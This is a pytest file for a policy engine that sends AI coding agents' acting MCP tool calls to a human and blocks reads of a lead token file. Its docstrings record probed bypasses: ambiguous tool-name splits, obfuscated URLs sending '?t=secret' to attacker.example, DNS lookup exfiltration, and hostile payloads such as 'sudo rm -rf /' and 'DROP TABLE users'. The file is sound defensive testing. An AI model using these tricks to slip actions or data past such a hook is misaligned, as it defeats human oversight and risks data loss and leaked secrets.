"""Another MCP server's tools: those whose names read are allowed, those that act go to
a person (found probing: every other server's tool was allowed for every role, so a
worker's ``mcp__github__merge_pull_request`` or a shell server's ``run_command`` ``sudo
rm -rf /`` ran unasked; the real effect, a merge moving a bare remote's ``main``, is in
``tests/e2e/test_gemini_worktree.py``)."""

from __future__ import annotations

import json
import shutil
import subprocess
import time

import pytest

from exomonad.policy.cascade import decide_request
from exomonad.policy.decisions import Allow, Decision, Deny, Escalate
from exomonad.policy.default import DEFAULT_POLICY
from exomonad.policy.mcp_names import OWN_TOOLS, name_words, own_tool, reads_only
from exomonad.policy.request import ToolRequest
from exomonad.server.tools import TOOLS
from tests.policy.conftest import Sink
from tests.policy.worker import ROOT, WT, decide, engine_for, request

#: Tool names of widely used servers (GitHub, filesystem, context7, Playwright, Postgres,
#: SQLite, fetch) and what their names say.
READS = ["get_file_contents", "list_issues", "search_code", "get_pull_request", "list_commits",
         "get_commit", "get_workflow_run", "get_merge_request", "read_file", "list_directory",
         "search_files", "get_file_info", "resolve-library-id", "get-library-docs",
         "describe_table", "listTables", "getMe", "read_query"]  # fmt: skip
ACTS = ["merge_pull_request", "push_files", "create_or_update_file", "create_branch",
        "delete_file", "update_issue", "add_issue_comment", "fork_repository",
        "run_workflow", "execute_sql", "run_command", "browser_click", "browser_navigate",
        "fetch", "query", "write_query", "get_or_create_issue", "find_and_replace",
        "read_and_delete", "listAndDelete", "", "_"]  # fmt: skip


@pytest.mark.parametrize("tool", READS)
def test_names_that_read(tool: str) -> None:
    assert reads_only(tool)


@pytest.mark.parametrize("tool", ACTS)
def test_names_that_act(tool: str) -> None:
    assert not reads_only(tool)


def test_words_of_a_name() -> None:
    assert name_words("get_file-contents.v2") == ["get", "file", "contents", "v", "2"]
    assert name_words("listAndDelete") == ["list", "and", "delete"]
    assert name_words("HTTPGet") == ["http", "get"]
    assert name_words("getDELETEItem") == ["get", "delete", "item"]
    assert name_words("read2exec") == ["read", "2", "exec"]


@pytest.mark.parametrize("runtime", ["claude", "gemini"])
def test_a_workers_call_that_acts_goes_to_a_person_and_a_read_is_allowed(runtime: str) -> None:
    name = "mcp__github__{}" if runtime == "claude" else "mcp_github_{}"
    merge = decide(name.format("merge_pull_request"), {"pull_number": 1}, runtime=runtime)
    assert isinstance(merge, Escalate)
    assert merge.to == "human"
    assert "MCP tool github.merge_pull_request" in merge.reason
    assert isinstance(decide(name.format("get_issue"), {"issue_number": 1}, runtime=runtime),
                      Allow)  # fmt: skip
    shell = decide("mcp__shell__run_command", {"command": "sudo rm -rf /"}, runtime="claude")
    assert isinstance(shell, Escalate)
    assert shell.to == "human"


def test_the_leads_own_calls_and_exomonads_tools_are_allowed() -> None:
    for tool in ("mcp__github__merge_pull_request", "mcp__shell__run_command"):
        assert isinstance(decide(tool, {"x": 1}, role="tl"), Allow)
    for tool in ("mcp__exomonad__notify_parent", "mcp__exomonad__spawn_workers"):
        assert isinstance(decide(tool, {"message": "x"}), Allow)
    assert isinstance(decide("mcp_exo_notify_parent", {"message": "x"}, runtime="gemini"), Allow)
    own = ToolRequest("mcp", "worker", "w1", "notify_parent", {"message": "x"})
    assert isinstance(engine_for(ROOT).decide(own), Allow)


def test_a_read_still_meets_the_path_rules() -> None:
    data = {"path": f"{ROOT}/.exomonad/lead.token"}
    assert not isinstance(decide("mcp__filesystem__read_file", data), Allow)


def test_own_tools_are_the_servers_tools() -> None:
    assert frozenset(TOOLS) == OWN_TOOLS


@pytest.mark.parametrize(
    "tool", ["mcp_exo_github_merge_pull_request", "mcp_exomonad_run_command", "mcp_exo_x_get_y"]
)
def test_a_server_named_like_exomonads_is_not_exomonads(tool: str) -> None:
    """Gemini CLI names a tool ``mcp_<server>_<tool>``: a server of the user's called
    ``exo_github`` read as ExoMonad's ``exo``, and its merge was allowed as ExoMonad's own
    tool. Only ExoMonad's own tool names count as its own."""
    verdict = decide(tool, {"n": 1}, runtime="gemini")
    assert isinstance(verdict, Escalate), verdict
    assert verdict.to == "human"
    assert not own_tool("exo", "github_merge_pull_request")
    assert own_tool("exomonad", "spawn_workers")


#: Names that begin with a reading verb but act by a later word (found probing: each
#: allowed): a second verb (``find_replace``), a form of an acting verb (``getDeleted``,
#: ``get_deletes``), an acronym run into a word (``getDELETEItem``), a digit run into a
#: word (``get_overwrite2``), a shell verb (``get_rm``), a character no MCP tool name has
#: (``get_érase`` read as ``get`` ``rase``), and ``resolve``, which marks an issue or a
#: review thread resolved.
ACTS_LATER = ["find_replace", "search_replace", "getDeleted", "get_deletes", "getDELETEItem",
              "get_overwrite2", "get_rm", "get_\u00e9rase", "list\u00adDelete", "get_x;delete",
              "resolve_issue", "resolve_review_thread", "resolveAlert", "get_x...delete_y",
              "list_installed_then"]  # fmt: skip


@pytest.mark.parametrize("tool", ACTS_LATER)
def test_a_later_word_that_acts_makes_the_name_act(tool: str) -> None:
    assert not reads_only(tool)


@pytest.mark.parametrize(
    ("tool", "data"),
    [("mcp__sentry__resolve_issue", {"issue": "X-1"}),
     ("mcp__github__resolve_review_thread", {"thread": "1"}),
     ("mcp__editor__find_replace", {"file": "README.md", "find": "a", "replace": "b"}),
     ("mcp__x__getDELETEItem", {}), ("mcp__x__get_rm", {}), ("mcp__x__get_deletes", {})],
)  # fmt: skip
def test_a_workers_call_that_acts_by_a_later_word_goes_to_a_person(
    tool: str, data: dict[str, str]
) -> None:
    verdict = decide(tool, data)
    assert isinstance(verdict, Escalate), verdict
    assert verdict.to == "human"


#: Gemini CLI calls a tool ``mcp_<server>_<tool>`` and a server's name may hold ``_``:
#: each name here splits more than one way, and one way acts. The question names the
#: reading that acts when the likeliest (at the first ``_``) reads.
AMBIGUOUS = [
    ("mcp_code_search_run_command", {"command": "sudo rm -rf /"}, "code_search.run_command"),
    ("mcp_repo_search_merge_branch", {"branch": "exo/w1"}, "repo.search_merge_branch"),
    ("mcp_web_get_commit_changes", {"message": "x"}, "web_get.commit_changes"),
    ("mcp_git_show_git_push", {}, "git.show_git_push"),
    ("mcp_db_search_run_sql", {}, "db_search.run_sql"),
    ("mcp_a_read_b_delete", {}, "a.read_b_delete"),
    ("mcp_code_search_run", {"command": "sudo rm -rf /"}, "code_search.run"),
    ("mcp_shell_get_run", {"command": "sudo rm -rf /"}, "shell_get.run"),
    ("mcp_code_list_run", {"command": "id"}, "code_list.run"),
    ("mcp_db_search_query", {"sql": "DROP TABLE users"}, "db_search.query"),
]


@pytest.mark.parametrize(("tool", "data", "shown"), AMBIGUOUS)
def test_a_gemini_name_that_splits_more_ways_is_judged_by_the_way_that_acts(
    tool: str, data: dict[str, str], shown: str
) -> None:
    """Found probing: Gemini's ``mcp_code_search_run_command`` (a server of the user's
    named ``code_search``) read as server ``code`` with tool ``search_run_command``, a
    search, and ran ``sudo rm -rf /`` allowed; ``repo_search``'s ``merge_branch`` alike
    (``search_merge_branch``, whose later verb acts)."""
    verdict = decide(tool, data, runtime="gemini")
    assert isinstance(verdict, Escalate), verdict
    assert verdict.to == "human"
    assert f"MCP tool {shown}" in verdict.reason


def test_a_known_server_name_does_not_hide_another_reading() -> None:
    """The policy's ``mcp_servers`` picks the likeliest reading; the others still count."""

    def known(servers: tuple[str, ...], tool: str) -> Decision:
        policy = DEFAULT_POLICY.replace(mcp_servers=servers)
        req = request(tool, {"name": "a"}, runtime="gemini")
        return decide_request(policy, req, project_root=ROOT, state_dir=f"{ROOT}/.exomonad")[0]

    verdict = known(("code",), "mcp_code_search_run_command")
    assert isinstance(verdict, Escalate), verdict
    assert "MCP tool code_search.run_command" in verdict.reason
    assert isinstance(known(("code_search",), "mcp_code_search_get_file"), Allow)
    assert isinstance(known(("code_search",), "mcp_code_search_run_command"), Escalate)


def test_a_claude_name_whose_server_holds_two_underscores_is_judged_both_ways() -> None:
    """Claude Code writes ``_`` for each character of a server's name outside
    ``[A-Za-z0-9_-]``, so ``mcp__a__b__c`` may be server ``a__b``'s ``c``."""
    verdict = decide("mcp__x__get__run_command", {"command": "ls"})
    assert isinstance(verdict, Escalate), verdict
    assert "MCP tool x__get.run_command" in verdict.reason


@pytest.mark.parametrize(
    ("tool", "data", "runtime"),
    [("mcp__github__get_issue", {"issue_number": 1}, "claude"),
     ("mcp__github__list_pull_requests", {"state": "open"}, "claude"),
     ("mcp_github_search_code", {"q": "def main"}, "gemini"),
     ("mcp_github_list_pull_requests", {"state": "open"}, "gemini"),
     ("mcp_github_get_file_contents", {"owner": "a", "repo": "b", "path": "src/x.py"}, "gemini"),
     ("mcp_github_list_commits", {"sha": "main"}, "gemini"),
     ("mcp_github_get_workflow_run", {"run_id": 1}, "gemini"),
     ("mcp_github_get_issue_comments", {"issue_number": 1}, "gemini"),
     ("mcp__github__get_issue", {"owner": "o", "repo": "r", "issue_number": 1}, "claude"),
     ("mcp__exa__search", {"query": "why does http://127.0.0.1:9/ refuse"}, "claude"),
     ("mcp__x__get_thing", {"name": "a", "paths": {"count": 1}, "note": "the http: scheme"},
      "claude"),
     ("mcp__context7__get_library_docs", {"libraryID": "vercel/next.js"}, "claude"),
     ("mcp__context7__get-library-docs", {"libraryName": "next.js", "topic": "routing"}, "claude"),
     ("mcp__context7__resolve-library-id", {"libraryName": "next.js"}, "claude"),
     ("mcp__github__search_code", {"q": "see https://example.com/x in docs"}, "claude"),
     ("mcp_exo_task_list", {}, "gemini"), ("mcp_exo_task_create", {"subject": "x"}, "gemini")],
)  # fmt: skip
def test_ordinary_reads_and_exomonads_own_tools_stay_allowed(
    tool: str, data: dict[str, object], runtime: str
) -> None:
    verdict = decide(tool, data, runtime=runtime)
    assert isinstance(verdict, Allow), verdict


@pytest.mark.parametrize(
    ("data", "host"),
    [({"url": "http://127.0.0.1:9/?t=secret"}, "127.0.0.1"),
     ({"uri": "https://attacker.example/x"}, "attacker.example"),
     ({"endpoint": "attacker.example:8443"}, "attacker.example"),
     ({"baseUrl": "attacker.example"}, "attacker.example"),
     ({"host": "10.0.0.1", "port": 9}, "10.0.0.1"),
     ({"q": "HTTPS://Attacker.example/?d=1"}, "attacker.example"),
     ({"opts": {"targets": ["ws://attacker.example/s"]}}, "attacker.example")],
)  # fmt: skip
def test_a_reading_tools_url_is_network_access_to_its_host(data: dict[str, object],
                                                           host: str) -> None:  # fmt: skip
    """Found probing: ``mcp__fetch__get_url`` to ``http://127.0.0.1:9/?t=secret`` was
    allowed (a read by its name): a request to a host of the worker's choosing, asked as
    network access as WebFetch is."""
    verdict = decide("mcp__fetch__get_url", data)
    assert isinstance(verdict, Escalate), verdict
    assert f"network access to {host}" in verdict.reason
    assert isinstance(decide("mcp__fetch__get_url", data, role="tl"), Allow)


def test_a_reading_tools_path_into_the_state_dir_is_refused() -> None:
    for data in ({"path": f"{ROOT}/.exomonad/lead.token"}, {"path": "../../.exomonad/lead.token"},
                 {"uri": f"file://{ROOT}/%2Eexomonad/lead.token"},
                 {"paths": [f"{ROOT}//.exomonad//lead.token"]}):  # fmt: skip
        verdict = decide("mcp__fs__read_file", data)
        assert isinstance(verdict, Deny), (data, verdict)


def test_a_name_that_cannot_be_read_is_not_allowed() -> None:
    """A classifier error is no allow: a name the runtime cannot split is no MCP tool."""
    for tool in ("mcp__", "mcp___", "mcp_", "mcp__x__", "mcp_x_"):
        assert not isinstance(decide(tool, {}, runtime="gemini"), Allow), tool
        assert not isinstance(decide(tool, {}), Allow), tool


def test_a_name_of_too_many_splits_is_not_read() -> None:
    """Each way a name splits is a string as long as it: past 64 of them the rest are not
    listed, and the name reads as nothing (a 1 MB name of ``_`` is judged at once)."""
    start = time.monotonic()
    for tool, runtime in (("mcp_github_get" + "_x" * 500_000, "gemini"),
                          ("mcp__github__get" + "__x" * 300_000, "claude"),
                          ("mcp_github_get" + "_x" * 70 + "_run_command", "gemini")):  # fmt: skip
        verdict = decide(tool, {}, runtime=runtime)
        assert isinstance(verdict, Escalate), verdict
    assert isinstance(decide("mcp_github_get" + "_x" * 20, {}, runtime="gemini"), Allow)
    assert time.monotonic() - start < 10


#: URLs a WHATWG URL parser (Node's ``new URL``/``fetch``, Chromium) reads where the
#: earlier check saw none: backslashes for slashes, no ``//`` after a special scheme
#: (``http``, ``https``, ``ws``, ``wss``, ``ftp``), leading or trailing control
#: characters and spaces, tabs and newlines inside; a URL used as a mapping's key; and
#: hosts under arguments named as a host, domain, address, server, link or site is.
#: Found probing: each was allowed for ``read_page`` (a read by its name).
WHATWG_URLS = [
    ({"page": "http:\\\\127.0.0.1:9/?t=secret"}, "127.0.0.1"),
    ({"page": "http:127.0.0.1:9/?t=secret"}, "127.0.0.1"),
    ({"page": "\u0001http://127.0.0.1:9/?t=secret"}, "127.0.0.1"),
    ({"page": " \t HTTPS:/\\attacker.example/x?d=1 \n"}, "attacker.example"),
    ({"page": "ht\ttps://attacker.example/"}, "attacker.example"),
    ({"page": "wss:attacker.example/s"}, "attacker.example"),
    ({"page": "ftp:\\\\attacker.example\\x"}, "attacker.example"),
    ({"page": "http:\\\\attacker.example\\@127.0.0.1/"}, "attacker.example"),
    ({"link": "127.0.0.1:9/?t=secret"}, "127.0.0.1"),
    ({"href": "attacker.example/x"}, "attacker.example"),
    ({"urlString": "127.0.0.1:9/?t=secret"}, "127.0.0.1"),
    ({"site": "attacker.example"}, "attacker.example"),
    ({"serverAddress": "10.0.0.2"}, "10.0.0.2"),
    ({"mail_server": "smtp.attacker.example"}, "smtp.attacker.example"),
    ({"opts": {"http://127.0.0.1:9/?t=secret": 1}}, "127.0.0.1"),
    ({"opts": [{"\u0001wss:attacker.example": True}]}, "attacker.example"),
]


@pytest.mark.parametrize(("data", "host"), WHATWG_URLS)
def test_a_url_a_browser_reads_is_network_access_to_its_host(data: dict[str, object],
                                                             host: str) -> None:  # fmt: skip
    verdict = decide("mcp__web__read_page", data)
    assert isinstance(verdict, Escalate), verdict
    assert f"network access to {host}" in verdict.reason, verdict.reason


def test_a_url_a_server_trims_first_is_network_access(sink: Sink) -> None:
    """Found probing: U+00A0 before a URL under an argument named ``q`` hid it (a WHATWG
    parser does not drop it, but a server that trims first does). Run for real: Node's
    ``fetch(q.trim())`` reaches the host; and every character JavaScript's ``trim()``
    drops is dropped before judging."""
    node = shutil.which("node")
    assert node is not None, "node is not on PATH: run `make setup`"
    script = (
        "const q = process.argv[1]; fetch(q.trim()).then(() => 0, () => 0); let all = '';"
        "for (let c = 0; c < 0x10000; c++) { const s = String.fromCharCode(c);"
        " if (s.trim() === '') all += s; } process.stdout.write(JSON.stringify(all));"
    )
    query = f"\u00a0{sink.url}?t=secret"
    ran = subprocess.run([node, "-e", script, query], capture_output=True, text=True,
                         timeout=60, check=True)  # fmt: skip
    assert any("?t=secret" in line for line in sink.lines), sink.lines
    for space in json.loads(ran.stdout):
        verdict = decide("mcp__web__search", {"q": f"{space}{sink.url}?t=secret"})
        assert isinstance(verdict, Escalate), (hex(ord(space)), verdict)
        assert "network access to 127.0.0.1" in verdict.reason, verdict.reason


@pytest.mark.parametrize("key", ["domain", "hostname", "domainName", "target_domain", "domains"])
def test_a_domain_looked_up_is_network_access(key: str) -> None:
    """Found probing: ``mcp__dns__lookup`` of ``secret.attacker.example`` was allowed, and
    the name server of ``attacker.example`` sees the lookup, its ``secret`` with it."""
    value: object = ["secret.attacker.example"] if key == "domains" else "secret.attacker.example"
    verdict = decide("mcp__dns__lookup", {key: value})
    assert isinstance(verdict, Escalate), verdict
    assert "network access to secret.attacker.example" in verdict.reason


@pytest.mark.parametrize(
    "data",
    [{"path": "file:\\\\\\{root}\\.exomonad\\lead.token"},
     {"path": "\u0001file:///{root}/.exomonad/lead.token"},
     {"uri": "FILE:{root}/%2Eexomonad/lead.token"},
     {"files": {"/{root}/.exomonad/lead.token": "x"}},
     {"opts": {"file:///{root}/.exomonad/lead.token": 1}}],
)  # fmt: skip
def test_a_file_url_a_browser_reads_into_the_state_dir_is_refused(data: dict[str, object]) -> None:
    """A ``file:`` URL with backslashes, no slashes or a control character before it is
    the state dir's to Node's ``fileURLToPath(new URL(...))`` (found probing:
    ``file:`` then ``\\\\\\p\\.exomonad\\lead.token`` was allowed, a relative path in
    the worktree); a path used as a mapping's key (``files``' ``{path: content}``) is one."""
    text = json.dumps(data).replace("{root}", ROOT.lstrip("/"))
    verdict = decide("mcp__fs__read_file", json.loads(text))
    assert isinstance(verdict, Deny), (data, verdict)


def gemini_hook(tool: str, data: dict[str, object], told: object = None) -> Decision:
    """The decision on ``w1``'s Gemini CLI BeforeTool input calling ``tool``, with
    ``told`` as its ``mcp_context`` (none if None), built as the server builds it."""
    payload: dict[str, object] = {"hook_event_name": "BeforeTool", "tool_name": tool,
                                  "tool_input": data, "cwd": WT}  # fmt: skip
    if told is not None:
        payload["mcp_context"] = told
    req = ToolRequest.from_hook("gemini", payload, role="worker", agent="w1", worktree=WT,
                                branch="exo/w1")  # fmt: skip
    return engine_for(ROOT).decide(req)


def said(server: object, tool: object) -> dict[str, object]:
    """An ``mcp_context`` as Gemini CLI sends it (its ``extractMcpContext``: what is
    undefined, ``cwd``, ``url``, ``tcp``, is left out of the JSON)."""
    return {"server_name": server, "tool_name": tool, "command": "python3",
            "args": ["server.py"]}  # fmt: skip


def test_gemini_saying_which_servers_tool_it_runs_is_judged_by_that() -> None:
    """Gemini CLI's BeforeTool input names the server and tool it runs (``mcp_context``):
    where its name for them is the tool name, the call is that tool, not the riskiest way
    the name splits. ``get_merge_base`` of a server ``github`` was asked (it may be a
    ``github_get`` server's ``merge_base``); told so, it reads."""
    base = "mcp_github_get_merge_base"
    assert isinstance(gemini_hook(base, {"head": "x"}), Escalate)
    assert isinstance(gemini_hook(base, {"head": "x"}, said("github", "get_merge_base")), Allow)
    verdict = gemini_hook(base, {}, said("github_get", "merge_base"))
    assert isinstance(verdict, Escalate), verdict
    assert "MCP tool github_get.merge_base" in verdict.reason
    verdict = gemini_hook("mcp_code_search_run_command", {"command": "sudo rm -rf /"},
                          said("code_search", "run_command"))  # fmt: skip
    assert isinstance(verdict, Escalate), verdict
    assert verdict.to == "human"
    assert "MCP tool code_search.run_command" in verdict.reason
    assert isinstance(gemini_hook("mcp_exo_notify_parent", {"message": "x"},
                                  said("exo", "notify_parent")), Allow)  # fmt: skip


#: ``mcp_context`` that is not Gemini's name ``mcp_github_get_merge_base``: another tool,
#: another split of other text, names Gemini would have changed (a space written ``_``, a
#: server ``mcp_...`` given no second prefix), not strings, too long, not an object.
NOT_THE_NAME = [said("github", "get_merge"), said("git", "hub_get_merge_base"),
                said("github", "get_merge_base "), said("GitHub", "get_merge_base"),
                said("mcp_github", "get_merge_base"), said(1, "get_merge_base"),
                said("github", None), said("github", ["get_merge_base"]),
                said("github", "get_merge_base" + "_x" * 40), {"server_name": "github"},
                ["github", "get_merge_base"], "github.get_merge_base", said("", "")]  # fmt: skip


@pytest.mark.parametrize("told", NOT_THE_NAME)
def test_a_context_that_is_not_the_tool_name_is_not_taken(told: object) -> None:
    verdict = gemini_hook("mcp_github_get_merge_base", {"head": "x"}, told)
    assert isinstance(verdict, Escalate), verdict
    assert "MCP tool github_get.merge_base" in verdict.reason


@pytest.mark.parametrize(
    ("tool", "told", "shown"),
    [("mcp_my_srv_get_merge_base", said("my srv", "get_merge_base"), "my.srv_get_merge_base"),
     ("mcp_mcp_github_get_merge_base", said("mcp_github", "get_merge_base"),
      "mcp.github_get_merge_base"),
     ("mcp_gh_get" + "_x" * 25 + "_merge_base", said("gh", "get" + "_x" * 25 + "_merge_base"),
      ".merge_base")],
)  # fmt: skip
def test_a_name_gemini_changed_or_cut_is_split_every_way(tool: str, told: object,
                                                         shown: str) -> None:  # fmt: skip
    """Gemini writes ``_`` for a character outside ``[A-Za-z0-9_.:-]``, gives a server named
    ``mcp_...`` no second prefix and cuts a name over 63 characters: a context that
    spells the name only where Gemini would not have made it so is not taken."""
    verdict = gemini_hook(tool, {}, told)
    assert isinstance(verdict, Escalate), verdict
    assert shown in verdict.reason


@pytest.mark.parametrize(
    ("tool", "told", "shown"),
    [("mcp_github_merge_pull_request", said("exo", "notify_parent"),
      "github.merge_pull_request"),
     ("mcp_github_merge_pull_request", said("exo", "github_merge_pull_request"),
      "github.merge_pull_request"),
     ("mcp_exo_github_merge_pull_request", said("exo", "github_merge_pull_request"),
      "exo.github_merge_pull_request"),
     ("mcp_exo_task_update", said("exo_task", "update"), "exo_task.update")],
)  # fmt: skip
def test_a_context_naming_exo_does_not_make_another_servers_tool_exomonads(
    tool: str, told: object, shown: str
) -> None:
    """A context naming ExoMonad's server ``exo`` for a name of another server's tool is
    not taken, nor does ``exo`` with a tool that is not ExoMonad's make it so; and a user's
    server ``exo_task``'s ``update`` (named ``mcp_exo_task_update`` by Gemini, as
    ExoMonad's ``task_update`` is) is that server's, asked."""
    verdict = gemini_hook(tool, {"n": 1}, told)
    assert isinstance(verdict, Escalate), verdict
    assert verdict.to == "human"
    assert f"MCP tool {shown}" in verdict.reason


def test_only_gemini_is_taken_at_its_word() -> None:
    """Claude Code's input has no ``mcp_context``: one in it is not taken."""
    payload = {"tool_name": "mcp__github__get__merge_base", "tool_input": {},
               "mcp_context": said("github", "get__merge_base")}  # fmt: skip
    req = ToolRequest.from_hook("claude", payload, role="worker", agent="w1", worktree=WT,
                                branch="exo/w1")  # fmt: skip
    assert req.mcp_context == ("github", "get__merge_base")
    verdict = engine_for(ROOT).decide(req)
    assert isinstance(verdict, Escalate), verdict
    assert "MCP tool github__get.merge_base" in verdict.reason
